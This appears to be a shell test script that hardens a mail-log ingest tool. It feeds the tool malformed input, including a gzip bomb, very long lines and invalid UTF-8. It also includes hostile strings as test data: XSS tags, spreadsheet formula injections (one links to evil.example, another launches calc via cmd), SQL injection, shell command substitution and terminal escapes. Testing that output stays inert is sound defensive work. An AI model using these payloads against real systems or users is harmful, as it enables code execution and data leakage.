# hostile.sh - broken and hostile input, one block per row of the README's
# "Hardening" table: nothing crashes, every line that is not stored as an
# event is in the reject table (or counted as skipped), exit codes follow the
# documented table, and text an attacker wrote (subjects, addresses) comes
# out inert in every output format this binary has.
. "$(dirname "$0")/lib.inc" "$@"
rm -rf ./* 2>/dev/null
command -v sqlite3 >/dev/null || { echo "skipped: the sqlite3 shell is not installed"; exit 77; }

ING=(--quiet ingest --year 2026 --tz UTC)
L1='Nov 23 08:14:03 mx1 postfix/smtpd[1234]: connect from host.example[192.0.2.1]'
L2='Nov 23 08:14:04 mx1 postfix/smtpd[1234]: disconnect from host.example[192.0.2.1] ehlo=1 quit=1 commands=2'
HDR='"Received","SenderAddress","RecipientAddress","Subject","Status","ToIP","FromIP","Size","MessageId","MessageTraceId"'
# row ID FROMIP SENDER SUBJECT: one Exchange Online message trace row (fields already CSV-quoted inside).
row() {
    printf '"11/27/2026 8:%02d:03 AM","%s","thomas.mueller@fabrikam.example","%s","Delivered","","%s","31877","<%s@evil.example>","2b7c1f0e-0a1d-4e5f-8a9b-%012d"\n' \
        "$1" "$3" "$4" "$2" "$1" "$1"
}
q() { sqlite3 "$1" "$2"; }

# accounted DB: every line read is an event line, a rejected line or a
# skipped line - never silently lost (one event per line in these inputs).
accounted() {
    q "$1" "SELECT sum(lines_read) - sum(events_stored) - sum(lines_rejected) - sum(lines_skipped) FROM source"
}

# ---- a 10 MB line: rejected with its start kept, the lines around it stored ----
{ echo "$L1"; head -c 10485760 /dev/zero | tr '\0' 'x'; echo; echo "$L2"; } >long.log
expect_exit 0 "$MX" --db long.db "${ING[@]}" long.log
expect_eq "$(q long.db "SELECT lines_read || ' ' || events_stored || ' ' || lines_rejected FROM source")" "3 2 1" \
    "10 MB line: lines, events, rejects"
expect_eq "$(q long.db "SELECT line || ' ' || length(text) FROM reject")" "2 2048" "10 MB line: reject row (cut to 2048)"
# ... and over --max-line: rejected by the reader, reading goes on after it.
expect_exit 0 "$MX" --db long2.db "${ING[@]}" --max-line 1048576 long.log
expect_in <(q long2.db "SELECT reason FROM reject WHERE line = 2") "longer than the limit"
expect_eq "$(q long2.db "SELECT events_stored FROM source")" 2 "events around a line over --max-line"
# A 10 MB field inside a line the parser understands: stored or rejected, no crash.
{ echo "$L1"; printf 'Nov 23 08:14:05 mx1 postfix/cleanup[99]: 4F2A31C0D2: message-id=<'; head -c 10485760 /dev/zero | tr '\0' 'y'; printf '@x>\n'; } >longfield.log
expect_exit 0 "$MX" --db longfield.db "${ING[@]}" longfield.log
expect_eq "$(q longfield.db "SELECT lines_read FROM source")" 2 "10 MB message-id: lines read"

# ---- NUL bytes: inside a line and a line of NULs ----
{ echo "$L1"; printf 'Nov 23 08:14:04 mx1 postfix/smtpd[1234]: connect from ho\0st.example[192.0.2.1]\n\0\0\0\n'; echo "$L2"; } >nul.log
expect_exit 0 "$MX" --db nul.db "${ING[@]}" nul.log
expect_eq "$(q nul.db "SELECT lines_read FROM source")" 4 "NUL bytes: lines read"
expect_eq "$(q nul.db "SELECT text FROM reject WHERE line = 3")" '\x00\x00\x00' "NUL line kept as \\x00 in reject"
expect_eq "$(accounted nul.db)" 0 "NUL bytes: lines not accounted for"

# ---- invalid UTF-8: overlong, surrogate, stray continuation bytes ----
{ echo "$L1"; printf 'Nov 23 08:14:04 mx1 postfix/smtpd[7]: connect from h\xff\xfe\xc3(st.example[192.0.2.1]\n'; printf '\xc0\xaf\xed\xa0\x80 not a log line \x80\n'; } >utf8.log
expect_exit 0 "$MX" --db utf8.db "${ING[@]}" utf8.log
expect_eq "$(q utf8.db "SELECT lines_read FROM source")" 3 "invalid UTF-8: lines read"
expect_eq "$(q utf8.db "SELECT text FROM reject WHERE line = 3")" '\xC0\xAF\xED\xA0\x80 not a log line \x80' \
    "invalid UTF-8 shown as \\xNN in reject"
expect_eq "$(accounted utf8.db)" 0 "invalid UTF-8: lines not accounted for"

# ---- a gzip bomb: 1 GiB of zeros (ten 100 MiB lines) in ~4 MB, streamed with flat memory ----
{ echo "$L1"; head -c 104857600 /dev/zero; echo; } | gzip -1 >member.gz
for _ in 1 2 3 4 5 6 7 8 9 10; do cat member.gz; done >bomb.gz  # ten members: one stream
rm -f member.gz
if [ -x /usr/bin/time ] && ! grep -qa __asan_init "$MX" 2>/dev/null; then
    expect_exit 0 /usr/bin/time -f 'maxrss=%M' "$MX" --db bomb.db "${ING[@]}" bomb.gz
    rss=$(sed -n 's/^maxrss=//p' err.txt)
    checks=$((checks + 1))
    if [ -z "$rss" ] || [ "$rss" -gt 204800 ]; then
        echo "FAIL: gzip bomb: peak RSS ${rss:-?} KB, want under 200 MB" >&2
        failures=$((failures + 1))
    fi
else
    # AddressSanitizer's shadow memory and quarantine make RSS meaningless.
    expect_exit 0 "$MX" --db bomb.db "${ING[@]}" bomb.gz
fi
expect_eq "$(q bomb.db "SELECT lines_read || ' ' || events_stored || ' ' || lines_rejected FROM source")" "20 10 10" \
    "gzip bomb: lines, events, rejects"
expect_eq "$(q bomb.db "SELECT count(*) FROM reject WHERE reason LIKE '%longer than the limit%'")" 10 \
    "gzip bomb: over-long lines rejected"
# Progress is shown on a terminal: under script(1), which gives one.
if command -v script >/dev/null; then
    rm -f bomb2.db
    script -qec "'$MX' --db bomb2.db ingest --year 2026 --tz UTC bomb.gz" /dev/null >tty.txt 2>&1
    expect_in tty.txt "MiB"
    expect_in tty.txt "lines/s"
fi
rm -f bomb.gz

# ---- truncated gzip: the file fails whole, named with the offset; the others land; exit 3 ----
awk -v L="$L1" 'BEGIN { for (i = 0; i < 5000; i++) print L }' | gzip -c >whole.gz
head -c $(($(stat -c %s whole.gz) / 2)) whole.gz >cut.gz
printf '%s\n%s\n' "$L1" "$L2" >good.log
expect_exit 3 "$MX" --db cut.db ingest --year 2026 --tz UTC cut.gz good.log
expect_in err.txt "cut.gz"
expect_in err.txt "compressed byte offset"
expect_eq "$(q cut.db "SELECT status FROM source WHERE path = 'cut.gz'")" failed "truncated gzip: source status"
expect_eq "$(q cut.db "SELECT count(*) FROM pf_event e JOIN source s ON s.id = e.source_id WHERE s.path = 'cut.gz'")" 0 \
    "truncated gzip: rows left behind"
expect_eq "$(q cut.db "SELECT status FROM source WHERE path = 'good.log'")" ok "the good file beside a truncated gzip"

# ---- UTF-16 with an odd number of bytes: the lines are read, the odd byte is a rejected last line ----
printf '%s\n%s\n' "$L1" "$L2" >plain.log
{ printf '\xff\xfe'; iconv -f UTF-8 -t UTF-16LE plain.log; printf 'X'; } >odd16.log
expect_exit 0 "$MX" --db odd16.db "${ING[@]}" odd16.log
expect_eq "$(q odd16.db "SELECT events_stored FROM source")" 2 "UTF-16 odd length: events"
expect_eq "$(accounted odd16.db)" 0 "UTF-16 odd length: lines not accounted for"

# ---- CSV: unbalanced quotes, 10,000 columns ----
{ echo "$HDR"; row 1 192.0.2.77 a@evil.example hello; printf '"11/27/2026 8:02:03 AM","b@evil.example","thomas.mueller@fabrikam.example","unclosed subject\n'; row 3 192.0.2.77 c@evil.example hi; row 4 192.0.2.77 d@evil.example hi; } >unbal.csv
expect_exit 0 "$MX" --db unbal.db "${ING[@]}" unbal.csv
expect_eq "$(q unbal.db "SELECT count(*) FROM source WHERE status = 'ok'")" 1 "unbalanced quote: source stored"
expect_eq "$(q unbal.db "SELECT count(*) FROM reject WHERE text LIKE '%unclosed subject%'")" 1 \
    "unbalanced quote: the broken line is in reject"
{ echo "$HDR"; row 1 192.0.2.77 a@evil.example hello; printf '"11/27/2026 8:02:03 AM","b@evil.example","thomas.mueller@fabrikam.example","open to the end\nmore\n'; } >unbal-end.csv
expect_exit 0 "$MX" --db unbal-end.db "${ING[@]}" unbal-end.csv
expect_eq "$(q unbal-end.db "SELECT count(*) FROM reject WHERE text LIKE '%open to the end%'")" 1 \
    "quote open at end of file: the broken record is in reject"
{ echo "$HDR"; row 1 192.0.2.77 a@evil.example hello; seq -s, 1 10000; row 3 192.0.2.77 c@evil.example hi; } >cols.csv
expect_exit 0 "$MX" --db cols.db "${ING[@]}" cols.csv
expect_eq "$(q cols.db "SELECT line FROM reject")" 3 "10,000 columns: rejected line"
expect_eq "$(q cols.db "SELECT events_stored FROM source")" 2 "10,000 columns: events around it"

# ---- timestamps in 1970 and 2100 (RFC 3339 syslog envelopes) and --year 1970 ----
printf '1970-01-01T00:00:00.000000+00:00 mx1 postfix/smtpd[1]: connect from a.example[192.0.2.1]\n2100-12-31T23:59:59+00:00 mx1 postfix/smtpd[1]: connect from b.example[192.0.2.2]\n' >years.log
expect_exit 0 "$MX" --db years.db "${ING[@]}" years.log
expect_eq "$(q years.db "SELECT group_concat(substr(ts, 1, 19), ' / ') FROM (SELECT ts FROM pf_event ORDER BY ts)")" \
    "1970-01-01 00:00:00 / 2100-12-31 23:59:59" "timestamps at both ends"
printf 'Jan  1 00:00:00 mx1 postfix/smtpd[1]: connect from a.example[192.0.2.1]\n' >y1970.log
expect_exit 0 "$MX" --db y1970.db --quiet ingest --year 1970 --tz UTC y1970.log
expect_eq "$(q y1970.db "SELECT ts FROM pf_event")" "1970-01-01 00:00:00" "--year 1970"
expect_exit 2 "$MX" --db y1969.db ingest --year 1969 y1970.log

# ---- hostile subjects and addresses: inert in every output format ----
cat >org.conf <<'EOF'
[organization]
domains = fabrikam.example
[gateway]
ips = 198.51.100.25
EOF
{
    echo "$HDR"
    row 1 192.0.2.71 '""><script>alert(1)</script>""@evil.example' '=HYPERLINK(""http://evil.example/?""&A1,""click"")'
    row 2 192.0.2.72 "+cmd|' /C calc'!A0@evil.example" "'); DROP TABLE source; -- \$(touch pwned) \`touch pwned2\` <img src=x onerror=alert(1)>"
    row 3 192.0.2.73 '-2+3@evil.example' "@SUM(1+1)*cmd|' /C calc'!A0 ]]> </style> {{7*7}} | md"
    row 4 192.0.2.74 $'esc\x1b[2J@evil.example' $'title \x1b]0;pwned\x07 bell\x07 tab\there'
    row 5 192.0.2.75 $'bad\xff\xfe@evil.example' $'sub\xc3(ject'
} >hostile.csv
expect_exit 0 "$MX" --db hostile.db "${ING[@]}" hostile.csv
expect_eq "$(q hostile.db "SELECT count(*) FROM ex_event")" 5 "hostile rows stored"
expect_eq "$(q hostile.db "SELECT subject FROM ex_event WHERE message_id = '2@evil.example'")" \
    "'); DROP TABLE source; -- \$(touch pwned) \`touch pwned2\` <img src=x onerror=alert(1)>" "SQL text stored verbatim"
# inert FILE...: no raw markup, no formula at a cell start, no terminal control bytes, valid UTF-8.
inert() {
    for f in "$@"; do
        [ -s "$f" ] || { checks=$((checks + 1)); failures=$((failures + 1)); echo "FAIL: $f is empty" >&2; continue; }
        case "$f" in
        *.html | *.md)
            # A tag from the input, not escaped (Markdown escapes it as \<).
            checks=$((checks + 1))
            if grep -nE '(^|[^\\])<(script>alert|img src=x)' "$f" >tags.txt; then
                echo "FAIL: $f has live markup from the input:" >&2
                head -3 tags.txt >&2
                failures=$((failures + 1))
            fi
            ;;
        esac
        case "$f" in
        *.csv)
            checks=$((checks + 1))
            if grep -nE '(^|,)"?[=+@-][^0-9-]' "$f" | grep -E '=HYPERLINK|[+]cmd|@SUM|-2[+]3' >cells.txt; then
                echo "FAIL: $f has cells starting with a formula character:" >&2
                head -3 cells.txt >&2
                failures=$((failures + 1))
            fi
            ;;
        esac
        checks=$((checks + 1))
        if LC_ALL=C grep -q $'[\x01-\x08\x0b\x0c\x0e-\x1f\x7f]' "$f"; then
            echo "FAIL: $f contains terminal control bytes from the input" >&2
            failures=$((failures + 1))
        fi
        checks=$((checks + 1))
        if ! iconv -f UTF-8 -t UTF-8 "$f" >/dev/null 2>&1; then
            echo "FAIL: $f is not valid UTF-8 (invalid bytes from the input passed through)" >&2
            failures=$((failures + 1))
        fi
    done
}
if ! "$MX" audit --help 2>&1 | grep -qF "unknown command"; then
    for fmt in text json csv; do
        "$MX" --db hostile.db audit --config org.conf --now 2026-11-28 --format $fmt >audit.$fmt 2>audit-$fmt.err
        rc=$?
        checks=$((checks + 1))
        [ $rc -le 1 ] || { echo "FAIL: audit --format $fmt exited $rc" >&2; failures=$((failures + 1)); }
        inert audit.$fmt
    done
    expect_in audit.json "2@evil.example"
else
    echo "note: no audit command in this binary; its formats were not checked"
fi
if "$MX" report --help >/dev/null 2>&1; then
    expect_exit 0 "$MX" --db hostile.db report --config org.conf --since 2026-11-27 --until 2026-11-27 \
        --generated-at 2026-11-28T00:00:00Z -o r.html -o r.md -o r.csv -o r.json
    inert r.html r.md r.csv r.json
    expect_in r.html "&lt;script&gt;alert(1)&lt;/script&gt;"
else
    echo "note: no report command in this binary; its formats were not checked"
fi
if "$MX" sql --help >/dev/null 2>&1; then
    "$MX" --db hostile.db sql "SELECT sender, subject FROM ex_event ORDER BY id" >sql.txt 2>&1
    inert sql.txt
fi
"$MX" --db hostile.db sources >sources.txt 2>&1
inert sources.txt
expect_eq "$(ls pwned pwned2 2>/dev/null | wc -l | tr -d ' ')" 0 "shell text executed"
expect_eq "$(q hostile.db "SELECT count(*) FROM sqlite_schema WHERE name = 'source'")" 1 "source table after SQL text"

# ---- a configuration with 100,000 networks ----
awk 'BEGIN {
    print "[organization]\ndomains = fabrikam.example\n[gateway]"
    for (i = 0; i < 50000; i++) printf "ips = 10.%d.%d.0/24\n", int(i / 256), i % 256
    printf "ips = 198.51.100.25"
    for (i = 0; i < 50000; i++) printf ", 2001:db8:%x::/48", i
    print ""
}' >huge.conf
{ echo "$HDR"; row 1 10.100.7.9 in@partner.example inside; row 2 2001:db8:c34f::1 in6@partner.example inside6;
  row 3 2001:db8:c350::1 out@evil.example outside; } >cidr.csv
expect_exit 0 "$MX" --db cidr.db "${ING[@]}" cidr.csv
if "$MX" report --help >/dev/null 2>&1; then
    expect_exit 0 "$MX" --db cidr.db report --config huge.conf --since 2026-11-27 --until 2026-11-27 \
        --generated-at 2026-11-28T00:00:00Z --format json
    expect_in out.txt '"finding":"bypassed_mx","message_id":"3@evil.example"'
    expect_not_in out.txt '"finding":"bypassed_mx","message_id":"1@evil.example"'
    expect_not_in out.txt '"finding":"bypassed_mx","message_id":"2@evil.example"'
fi
printf '[organization]\ndomains = fabrikam.example\n[gateway]\nips = 10.0.0.0/33\n' >badnet.conf
if "$MX" report --help >/dev/null 2>&1; then
    expect_exit 2 "$MX" --db cidr.db report --config badnet.conf --since 2026-11-27 --until 2026-11-27
    expect_in err.txt "badnet.conf:4"
fi

# ---- symbolic link loops in an input directory ----
mkdir -p loop/sub
printf '%s\n' "$L1" >loop/sub/a.log
ln -s .. loop/sub/up
ln -s . loop/self
ln -s ../../loop loop/sub/again
ln -s sub/a.log loop/b.log
expect_exit 0 "$MX" --db loop.db ingest --year 2026 --tz UTC loop
expect_in err.txt "directory loop"
expect_eq "$(q loop.db "SELECT count(*) FROM source")" 1 "symlink loops: sources (one content, seen twice)"
expect_eq "$(q loop.db "SELECT count(*) FROM source_file")" 2 "symlink loops: file names seen"

finish
